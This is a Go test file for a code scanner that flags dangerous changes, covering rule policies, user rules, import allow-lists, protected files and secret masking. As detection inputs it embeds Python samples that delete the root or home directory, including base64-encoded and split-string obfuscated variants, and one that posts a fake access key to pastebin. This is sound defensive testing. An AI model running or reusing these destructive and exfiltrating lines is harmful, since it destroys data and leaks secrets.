package static_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static"
)

const evil = "import os\nos.system('rm -rf /')\n"

func TestThePolicyAdjustsRules(t *testing.T) {
	for _, c := range []struct {
		name  string
		rules gate.Rules
		want  []string
	}{
		{"as they are", gate.Rules{}, []string{"deletion/shell-root:2 dangerous", "shell-out/python:2 note"}},
		{"disabled", gate.Rules{Disable: []string{"deletion/shell-root"}}, []string{"shell-out/python:2 note"}},
		{"another severity", gate.Rules{Severity: map[string]gate.Severity{"shell-out/python": gate.SeverityDangerous}},
			[]string{"deletion/shell-root:2 dangerous", "shell-out/python:2 dangerous"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newScanner(t, func(p *gate.Policy) { p.Rules = c.rules })
			got := run(t, s, fstest.MapFS{"a.py": {Data: []byte(evil)}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
			if rules := got.rulesOf("a.py"); !slices.Equal(rules, c.want) {
				t.Errorf("got %q, want %q", rules, c.want)
			}
		})
	}
}

func TestMistakesInThePolicyAreErrors(t *testing.T) {
	for _, c := range []struct {
		name   string
		adjust func(*static.Options)
		want   string
	}{
		{"an unknown rule to disable", func(o *static.Options) { o.Policy.Rules.Disable = []string{"a/b"} }, `no rule "a/b"`},
		{"an unknown rule with a severity", func(o *static.Options) {
			o.Policy.Rules.Severity = map[string]gate.Severity{"a/b": gate.SeverityNote}
		}, `no rule "a/b"`},
		{"an unknown rule with a safe usage", func(o *static.Options) {
			o.Policy.Rules.Usage = []gate.Usage{{Rule: "a/b", Line: "x", Reason: "r"}}
		}, `rules.usage: no rule "a/b"`},
		{"folders of rules that no one opened", func(o *static.Options) { o.Policy.Rules.Dirs = []string{"mine"} }, "1 folders of rules and 0 were given"},
		{"no limit", func(o *static.Options) { o.Policy.Limits.FileSize = 0 }, "limits.file-size is not set"},
		{"a broken rule of the user", func(o *static.Options) {
			o.Policy.Rules.Dirs = []string{"mine"}
			o.UserRules = []static.RuleSource{{Name: "mine", FS: fstest.MapFS{"rules.yaml": {Data: []byte("rules: [{}]")}}}}
		}, "mine/rules.yaml:1:9: "},
		{"a check that doesn't exist", func(o *static.Options) {
			o.Policy.Rules.Dirs = []string{"mine"}
			o.UserRules = []static.RuleSource{{Name: "mine", FS: fstest.MapFS{"rules.yaml": {Data: []byte(
				"rules: [{id: a/b, severity: note, title: t, why: w, instead: i, check: nope}]")}}}}
		}, `unknown check "nope"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			own, err := ownRules()
			if err != nil {
				t.Fatal(err)
			}
			o := static.Options{Policy: gate.DefaultPolicy(), Rules: own}
			c.adjust(&o)
			if _, err := static.New(o); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %s", err, c.want)
			}
		})
	}
}

// mine is a rule of a user with its samples.
var mine = fstest.MapFS{
	"house/rules.yaml": {Data: []byte(`rules:
  - id: house/no-legacy
    severity: dangerous
    title: calls the legacy service
    why: It is switched off next month.
    instead: Call the new one.
    languages: [python]
    in: code
    patterns: ['\blegacy_client\.']
    all: [{signal: python-network-fetch}]
`)},
	"house/samples.yaml": {Data: []byte(`house/no-legacy:
  match: [{line: 2, text: "requests.get(u)\nlegacy_client.get()"}]
  quiet: [{text: "legacy_client.get()"}]
`)},
}

func TestRulesOfTheUserAreLoadedAndMayUseOurSignals(t *testing.T) {
	p := gate.DefaultPolicy()
	p.Rules.Dirs = []string{"mine"}
	s, err := static.New(static.Options{Policy: p, UserRules: []static.RuleSource{{Name: "mine", FS: mine}}})
	if err != nil {
		t.Fatal(err)
	}
	got := run(t, s, fstest.MapFS{"a.py": {Data: []byte("requests.get(u)\nlegacy_client.get()\n")}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
	if rules := got.rulesOf("a.py"); !slices.Contains(rules, "house/no-legacy:2 dangerous") {
		t.Errorf("%q", rules)
	}
	if !slices.ContainsFunc(s.Rules(), func(r *static.Rule) bool { return r.ID == "house/no-legacy" && r.Pack == "mine" }) {
		t.Error("the rule is not listed")
	}
}

func TestTheTreeUnderScanBringsNoRules(t *testing.T) {
	tree := fstest.MapFS{"a.py": {Data: []byte("legacy_client.get()\n")}, "rules.yaml": mine["house/rules.yaml"]}
	got := run(t, newScanner(t, nil), tree, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
	if len(got.found["a.py"]) > 0 {
		t.Errorf("%q", got.rulesOf("a.py"))
	}
}

func TestTheImportAllowList(t *testing.T) {
	tree := fstest.MapFS{
		"a.py": {Data: []byte("import os, json as j\nfrom numpy.linalg import norm\nfrom . import sibling\nimport local\n" +
			"import evil_pkg; import other\n'''\nimport quoted\n'''\n__import__('sneaky')\n")},
		"local.py": {Data: []byte("x = 1\n")},
		"a.ts":     {Data: []byte("import a from 'left-pad';\nimport './b';\nconst c = require('node:fs');\n// import 'no'\n")},
		"go.mod":   {Data: []byte("module example.com/tool\n")},
		"a/b.go":   {Data: []byte("package b\n\nimport (\n\t\"fmt\"\n\t\"example.com/tool/c\"\n\t\"example.com/evil\"\n)\n")},
	}
	s := newScanner(t, func(p *gate.Policy) { p.Imports.Allow = []string{"os", "json", "numpy", "fs", "fmt", "encoding/*"} })
	got := run(t, s, tree,
		&gate.Target{Path: "a.py", Language: gate.LanguagePython},
		&gate.Target{Path: "a.ts", Language: gate.LanguageTypeScript},
		&gate.Target{Path: "a/b.go", Language: gate.LanguageGo})
	imports := func(path string) []string {
		var out []string
		for _, f := range got.found[path] {
			if f.Rule == "imports/not-allowed" {
				out = append(out, f.Evidence)
			}
		}
		return out
	}
	for path, want := range map[string][]string{
		"a.py":   {"evil_pkg", "other", "sneaky"},
		"a.ts":   {"left-pad"},
		"a/b.go": {"example.com/evil"},
	} {
		if names := imports(path); !slices.Equal(names, want) {
			t.Errorf("%s: %q, want %q", path, names, want)
		}
	}
}

func TestAChangeOfAProtectedFileIsAFinding(t *testing.T) {
	tree := fstest.MapFS{".github/CODEOWNERS": {Data: []byte("* @me\n")}, ".gate.yml": {Data: []byte("\n")}, "a.md": {Data: []byte("x\n")}, "ci.yml": {Data: []byte("x: y\n")}}
	text := gate.LanguageText
	for _, c := range []struct {
		name   string
		target gate.Target
		want   bool
	}{
		{"changed", gate.Target{Path: ".gate.yml", Language: text, Kind: gate.ChangeModified}, true},
		{"owners, who are compared", gate.Target{Path: ".github/CODEOWNERS", Language: text, Kind: gate.ChangeModified}, false},
		{"deleted", gate.Target{Path: ".gate.yml", Kind: gate.ChangeDeleted}, true},
		{"moved away", gate.Target{Path: "ci.yml", OldPath: ".gate.yml", Language: text, Kind: gate.ChangeRenamed}, true},
		{"a workflow, which is judged by what changes in it", gate.Target{Path: ".github/workflows/x.yml", Kind: gate.ChangeDeleted}, false},
		{"in a folder scan, where nothing is known to have changed", gate.Target{Path: ".gate.yml", Language: text, Kind: gate.ChangeNone}, false},
		{"another file", gate.Target{Path: "a.md", Language: text, Kind: gate.ChangeModified}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := run(t, newScanner(t, nil), tree, &c.target)
			if found := slices.Contains(got.rulesOf(c.target.Path), "config/protected-file:0 suspicious"); found != c.want {
				t.Errorf("%q", got.rulesOf(c.target.Path))
			}
			if len(got.gaps) > 0 {
				t.Errorf("gaps %q", got.gaps)
			}
		})
	}
}

func TestAFileWithASecretIsMarkedWhateverItsRoleMakesOfTheRule(t *testing.T) {
	tree := fstest.MapFS{
		"go.sum":   &fstest.MapFile{Data: []byte("url = postgres://app:Vx7qLm29zTrKw4@db.internal.test:5432/app\n")},
		"clean.go": &fstest.MapFile{Data: []byte("package clean\n")},
	}
	targets := []*gate.Target{{Path: "go.sum", Language: gate.LanguageText, Role: gate.RoleLock, Size: 1}, {Path: "clean.go", Language: gate.LanguageGo, Role: gate.RoleSource, Size: 1}}
	found := gate.NewFindings(targets, nil)
	out, err := newScanner(t, nil).Run(t.Context(), &gate.Change{Head: tree, Targets: targets}, found)
	if err != nil {
		t.Fatal(err)
	}
	if reported := found.Of("go.sum"); len(reported) > 0 {
		t.Fatalf("the rule is off in locks, but says %v", reported)
	}
	if !out.Masked["go.sum"] || out.Masked["clean.go"] {
		t.Errorf("masked: %v", out.Masked)
	}
}

func TestEvidenceShowsNoSecret(t *testing.T) {
	const secret = "\x41KIA2E7ABF3B244CQQZ6"
	src := "import requests\nrequests.post('https://pastebin.com/raw/x', data='" + secret + "')  # " + secret + "\n"
	got := run(t, newScanner(t, nil), fstest.MapFS{"a.py": {Data: []byte(src)}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
	if len(got.found["a.py"]) < 2 {
		t.Fatalf("%q", got.rulesOf("a.py"))
	}
	for _, f := range got.found["a.py"] {
		if strings.Contains(f.Evidence, secret[5:]) {
			t.Errorf("%s shows %q", f.Rule, f.Evidence)
		}
	}
}

func TestOriginSaysHowATextWasUnwrapped(t *testing.T) {
	// The inner text is: import os;os.system("rm -rf ~/")
	src := "x = 1\ny = 'aW1wb3J0IG9zO29zLnN5c3RlbSgicm0gLXJmIH4vIik='\n"
	got := run(t, newScanner(t, nil), fstest.MapFS{"a.py": {Data: []byte(src)}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
	if !slices.ContainsFunc(got.found["a.py"], func(f gate.Finding) bool {
		return f.Rule == "deletion/shell-root" && f.Line == 2 && f.Origin == "base64 on line 2"
	}) {
		t.Errorf("%+v", got.found["a.py"])
	}
	split := "import os as o\no.system('rm -r' + 'f /')\n"
	got = run(t, newScanner(t, nil), fstest.MapFS{"a.py": {Data: []byte(split)}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
	if !slices.ContainsFunc(got.found["a.py"], func(f gate.Finding) bool {
		return f.Rule == "deletion/shell-root" && f.Line == 2
	}) {
		t.Errorf("%+v", got.found["a.py"])
	}
}

func TestTheSameChangeGivesTheSameFindings(t *testing.T) {
	tree := fstest.MapFS{}
	var targets []*gate.Target
	for _, name := range []string{"a.py", "b.py", "c.py", "d.py"} {
		tree[name] = &fstest.MapFile{Data: []byte(strings.Repeat(evil, 20))}
		targets = append(targets, &gate.Target{Path: name, Language: gate.LanguagePython})
	}
	var first map[string][]gate.Finding
	for range 5 {
		got := run(t, newScanner(t, nil), tree, targets...)
		if first == nil {
			first = got.found
		}
		for path := range tree {
			if !slices.EqualFunc(first[path], got.found[path], func(a, b gate.Finding) bool {
				return a.Rule == b.Rule && a.Line == b.Line && a.Evidence == b.Evidence && a.Severity == b.Severity
			}) {
				t.Fatalf("%s differs", path)
			}
		}
	}
}

func TestUserRulesAreTested(t *testing.T) {
	ours := static.BuiltinRules()
	report, err := static.TestRules(static.RuleSource{Name: "mine", FS: mine}, ours)
	if err != nil || report.Rules != 1 || report.Samples != 2 {
		t.Errorf("%+v, %v", report, err)
	}
	broken := fstest.MapFS{"house/rules.yaml": mine["house/rules.yaml"], "house/samples.yaml": {Data: []byte(
		"house/no-legacy:\n  match: [{text: nothing}]\n  quiet: [{text: \"requests.get(u)\\nlegacy_client.get()\"}]\n")}}
	_, err = static.TestRules(static.RuleSource{Name: "mine", FS: broken}, ours)
	if err == nil || !strings.Contains(err.Error(), "mine/house/samples.yaml:2:11: house/no-legacy should match on line 1, found nothing") ||
		!strings.Contains(err.Error(), "should stay quiet, found dangerous on line 2") {
		t.Errorf("%v", err)
	}
}
